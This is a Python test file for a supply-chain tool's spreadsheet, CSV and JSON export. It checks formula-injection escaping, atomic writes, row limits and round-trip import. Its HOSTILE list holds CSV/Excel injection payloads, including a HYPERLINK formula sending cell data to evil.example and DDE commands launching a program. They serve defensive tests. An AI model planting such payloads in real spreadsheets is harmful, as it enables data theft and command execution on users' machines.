"""F4/F6: written workbooks keep text as text, are written at once, and read back to the same chain."""

from __future__ import annotations

import json
import tempfile
import zipfile
from dataclasses import replace
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ketenradar.errors import OutputRefused
from ketenradar.ingest.workbook import read_chain_workbook
from ketenradar.ingest.workbook_writer import (
    CSV_ESCAPED,
    EXCEL_MAX_ROWS,
    MATERIAL_COLUMNS,
    write_chain,
    write_sheets,
    write_template,
)
from ketenradar.model.chain import Chain
from ketenradar.model.material import Material
from ketenradar.refdata import load_dis_areas
from ketenradar.services.synth import synthetic_chain
from tests.helpers.chains import CATALOGUE

MATERIAL_IDS = list(CATALOGUE)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1)',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "#N/A",
    "=",
]
TABLES = ("items", "bom", "sourcing")


def _with_names(chain: Chain, names: list[str], suppliers: list[str]) -> Chain:
    items = chain.items.copy()
    items.loc[: len(names) - 1, "name"] = names[: len(items)]
    sourcing = chain.sourcing.copy()
    parts = np.flatnonzero((sourcing["stage"] == "manufacturing").to_numpy())[: len(suppliers)]
    sourcing.loc[parts, "supplier"] = suppliers[: len(parts)]
    return replace(chain, items=items, sourcing=sourcing)


def _assert_same_chain(back: Chain, chain: Chain) -> None:
    for table in TABLES:
        pd.testing.assert_frame_equal(
            getattr(back, table).reset_index(drop=True),
            getattr(chain, table).reset_index(drop=True),
            check_dtype=False,
            obj=table,
        )


def _formula_cells(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def test_f04_text_that_looks_like_a_formula_stays_text_in_xlsx(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    chain = _with_names(synthetic_chain(40, seed=1), HOSTILE, HOSTILE)
    out = write_chain(chain, tmp_path / "x.xlsx")
    assert _formula_cells(out) == []
    book = load_workbook(out)
    cells = {c.value: c.data_type for row in book["items"].iter_rows(min_row=2) for c in row[1:2]}
    for name in HOSTILE:
        assert cells[name] == "s", name
    _assert_same_chain(read_chain_workbook(out, MATERIAL_IDS, name=chain.name), chain)
    # The sheets state their size, so a reader in read-only mode need not scan them first.
    streamed = load_workbook(out, read_only=True)
    assert streamed["sourcing"].calculate_dimension() == f"A1:H{len(chain.sourcing) + 1}"
    streamed.close()


def test_f04_csv_cells_that_would_run_as_formulas_get_a_quote(tmp_path: Path) -> None:
    chain = _with_names(synthetic_chain(40, seed=1), [*HOSTILE, "\tx", "'=already quoted", "ok -1"], [])
    folder = write_chain(chain, tmp_path / "csv")
    names = pd.read_csv(folder / "items.csv", dtype=str, keep_default_na=False)["name"]
    for written, original in zip(names, chain.items["name"], strict=True):
        if CSV_ESCAPED.match(original):
            assert written == "'" + original
        else:
            assert written == original
    assert not any(n[:1] in "=+-@\t\r" for n in names)
    assert names[len(HOSTILE) + 1] == "''=already quoted"  # the quote is escaped too: exact reading
    assert names[len(HOSTILE) + 2] == "ok -1"
    # Numbers are numbers, not text: a negative one gets no quote.
    frame = pd.DataFrame({"x": [-1.5, 2.0], "label": ["-1.5", "b"]})
    write_sheets({"numbers": frame}, tmp_path / "n")
    assert (tmp_path / "n" / "numbers.csv").read_text().splitlines() == ["x,label", "-1.5,'-1.5", "2.0,b"]


def test_f04_exports_are_refused_before_writing_past_excels_row_limit(tmp_path: Path) -> None:
    out = tmp_path / "big.xlsx"
    out.write_bytes(b"an earlier export")
    rows = pd.DataFrame({"parent": ["p"] * EXCEL_MAX_ROWS, "child": "c", "quantity": 1.0})
    with pytest.raises(OutputRefused) as caught:
        write_sheets({"items": rows.head(3), "bom": rows}, out)
    message = str(caught.value)
    assert "'bom'" in message and "1,048,576 rows" in message and "1,048,575" in message
    assert "folder of CSV files" in message and ".json" in message
    assert out.read_bytes() == b"an earlier export"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["big.xlsx"]


def test_f04_failed_export_leaves_the_old_file_and_no_temporary(tmp_path: Path) -> None:
    chain = synthetic_chain(30, seed=2)
    for name in ("x.xlsx", "x.json"):
        out = write_chain(chain, tmp_path / name)
        before = out.read_bytes()
        broken = replace(chain, sourcing=chain.sourcing.assign(supplier="bell \x07"))
        if name == "x.json":
            broken = replace(chain, sourcing=chain.sourcing.assign(supplier=[{1}] * len(chain.sourcing)))
        with pytest.raises((OutputRefused, TypeError)) as caught:
            write_chain(broken, out)
        if name == "x.xlsx":
            assert "control character" in str(caught.value) and "'supplier'" in str(caught.value)
        assert out.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.json", "x.xlsx"]


def test_f04_failed_csv_export_leaves_the_folder_as_it_was(tmp_path: Path, monkeypatch) -> None:
    chain = synthetic_chain(30, seed=2)
    folder = write_chain(chain, tmp_path / "csv")
    (folder / "my notes.txt").write_text("mine")
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    calls = []
    original = pd.DataFrame.to_csv

    def fail_on_second(self, *args, **kwargs):
        calls.append(1)
        if len(calls) == 2:
            raise OSError("disk full")
        return original(self, *args, **kwargs)

    monkeypatch.setattr(pd.DataFrame, "to_csv", fail_on_second)
    with pytest.raises(OSError, match="disk full"):
        write_chain(replace(chain, name="other", items=chain.items.assign(unit="kg")), folder)
    monkeypatch.undo()
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["csv"]
    write_chain(chain, folder)  # a complete export replaces only its own files
    assert (folder / "my notes.txt").read_text() == "mine"


def test_f04_export_to_a_folder_or_file_of_the_wrong_kind_is_a_clear_error(tmp_path: Path) -> None:
    chain = synthetic_chain(20, seed=0)
    (tmp_path / "a.xlsx").mkdir()
    with pytest.raises(OutputRefused, match="is a folder"):
        write_chain(chain, tmp_path / "a.xlsx")
    (tmp_path / "plain").write_text("mine")
    with pytest.raises(OutputRefused, match="is a file"):
        write_chain(chain, tmp_path / "plain")
    assert (tmp_path / "plain").read_text() == "mine"


def test_f04_json_export_keeps_every_digit(tmp_path: Path) -> None:
    chain = synthetic_chain(30, seed=4)
    shares = json.loads(write_chain(chain, tmp_path / "c.json").read_text())["sourcing"]
    assert [row["share"] for row in shares] == chain.sourcing["share"].tolist()


def test_f04_materials_beyond_the_shipped_catalogue_travel_with_the_export(tmp_path: Path) -> None:
    chain = synthetic_chain(40, seed=3)
    items = chain.items.copy()
    first = int(np.flatnonzero((items["kind"] == "material").to_numpy())[0])
    items.loc[first, "material"] = "kevlar_x"
    chain = replace(chain, items=items)
    mine = Material(id="kevlar_x", name_en="Kevlar X", name_nl="Kevlar X", category="user", note="=note")
    unused = Material(id="unused_x", name_en="Unused", name_nl="Ongebruikt")
    shipped = CATALOGUE["gallium"]
    materials = [mine, unused, shipped]
    for name in ("c.xlsx", "c.json", "csv"):
        out = write_chain(chain, tmp_path / name, materials)
        if name == "c.json":
            sheet = pd.DataFrame(json.loads(out.read_text())["materials"])
        elif name == "csv":
            sheet = pd.read_csv(out / "materials.csv", dtype=str, keep_default_na=False)
        else:
            sheet = pd.read_excel(out, sheet_name="materials", dtype=str).fillna("")
        assert list(sheet.columns) == MATERIAL_COLUMNS
        expected_note = "'=note" if name == "csv" else "=note"
        assert sheet.to_dict("records") == [
            {
                "id": "kevlar_x",
                "name_en": "Kevlar X",
                "name_nl": "Kevlar X",
                "category": "user",
                "note": expected_note,
            }
        ]
    # No extra material, no sheet; a stale materials.csv in the folder is emptied.
    plain = synthetic_chain(40, seed=3)
    assert "materials" not in json.loads(write_chain(plain, tmp_path / "p.json").read_text())
    write_chain(plain, tmp_path / "csv")
    assert (tmp_path / "csv" / "materials.csv").read_text().strip() == ",".join(MATERIAL_COLUMNS)


def test_f04_export_with_its_materials_imports_without_the_catalogue_file(tmp_path: Path) -> None:
    # Reading the materials sheet is the importer's part (ingest/workbook.py).
    chain = synthetic_chain(40, seed=3)
    items = chain.items.copy()
    first = int(np.flatnonzero((items["kind"] == "material").to_numpy())[0])
    items.loc[first, "material"] = "kevlar_x"
    chain = replace(chain, items=items)
    mine = Material(id="kevlar_x", name_en="Kevlar X", name_nl="Kevlar X", category="user")
    for name in ("c.xlsx", "c.json", "csv"):
        out = write_chain(chain, tmp_path / name, [mine])
        _assert_same_chain(read_chain_workbook(out, MATERIAL_IDS, name=chain.name), chain)


_TEXT = st.text(
    alphabet=st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs")), min_size=1, max_size=12
)
_NAME = st.builds(lambda start, rest: (start + rest).strip() or "x", st.sampled_from(["", *HOSTILE]), _TEXT)


@settings(max_examples=15)
@given(
    n_items=st.integers(10, 60),
    seed=st.integers(0, 10_000),
    names=st.lists(_NAME, max_size=8),
    suppliers=st.lists(_NAME, max_size=4),
)
def test_f04_export_then_import_gives_the_same_chain(
    n_items: int, seed: int, names: list[str], suppliers: list[str]
) -> None:
    chain = synthetic_chain(n_items, seed=seed)
    hostile = _with_names(chain, names, suppliers)
    with tempfile.TemporaryDirectory() as folder:
        for out, written in (
            ("c.xlsx", hostile),
            ("c.json", hostile),
            # A CSV folder reads back exactly once the importer drops the OWASP quote again; the
            # synthetic chain's texts need none.
            ("csv", chain),
        ):
            path = write_chain(written, Path(folder) / out)
            _assert_same_chain(read_chain_workbook(path, MATERIAL_IDS, name=chain.name), written)


def test_f06_questionnaire_template_shows_each_area_with_its_category(tmp_path: Path, run) -> None:
    from openpyxl import load_workbook

    path = tmp_path / "q.xlsx"
    assert run("survey", "template", str(path)).exit_code == 0
    book = load_workbook(path)
    areas = load_dis_areas()
    pairs = list(book["dis_areas"].iter_rows(min_row=2, values_only=True))
    assert [(c, a) for c, a, _nl in pairs] == list(
        zip(areas["category"], areas["area"].str.lower(), strict=True)
    )
    text = "\n".join(str(c.value) for c in book["instructions"]["A"] if c.value)
    for category, group in areas.groupby("category"):
        line = next(line for line in text.splitlines() if line.startswith(f"Areas of {category}:"))
        assert all(a.lower() in line for a in group["area"])
    sheet = book["areas"]
    (rule,) = [r for cf in sheet.conditional_formatting for r in cf.rules]
    assert "COUNTIFS(dis_areas!" in rule.formula[0]
    (area_list,) = [v for v in sheet.data_validations.dataValidation if str(v.sqref).startswith("C2")]
    assert area_list.prompt and "dis_areas" in area_list.prompt
    # The drop-down lists the areas category by category.
    ordered = [a for c in dict.fromkeys(areas["category"]) for a in areas.loc[areas["category"] == c, "area"]]
    assert book["lists"]["F1"].value == "area"
    column = [c.value for c in book["lists"]["F"][1:] if c.value]
    assert column == [a.lower() for a in ordered]
    # The template filled in with a pair from each category imports.
    for row, (category, area) in enumerate(
        areas.groupby("category", sort=False).first()["area"].items(), start=2
    ):
        sheet.cell(row=row, column=1, value="c1")
        sheet.cell(row=row, column=2, value=category)
        sheet.cell(row=row, column=3, value=area.lower())
    book["companies"].append(["c1", 10, "land", "oem", "none", "true"])
    book.save(path)
    result = run("survey", "import", str(path), "--workspace", str(tmp_path / "w.sqlite"))
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize("out", ["c.xlsx", "c.json", "csv"])
def test_f04_item_stocks_survive_export_and_import(tmp_path: Path, out: str) -> None:
    chain = synthetic_chain(60, seed=2)
    # Whole, partial, zero, none and a value that needs every digit.
    pattern = [30.0, np.nan, 0.5, 0.0, 1 / 3]
    stocks = np.tile(pattern, -(-len(chain.items) // len(pattern)))[: len(chain.items)]
    stocked = chain.with_frames(items=chain.items.assign(stock_days=stocks))
    back = read_chain_workbook(write_chain(stocked, tmp_path / out), MATERIAL_IDS, name=chain.name)
    np.testing.assert_array_equal(back.items["stock_days"].to_numpy(), stocks)
    _assert_same_chain(back, stocked)


def test_f04_template_has_a_stock_days_column_and_says_what_it_means(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    book = load_workbook(write_template(tmp_path / "t.xlsx", MATERIAL_IDS))
    header = [c.value for c in book["items"][1]]
    assert header[-1] == "stock_days"
    text = "\n".join(str(c.value) for c in book["instructions"]["A"] if c.value)
    assert "(v1.1)" in text and "stock_days (stock in days of the item's normal consumption" in text
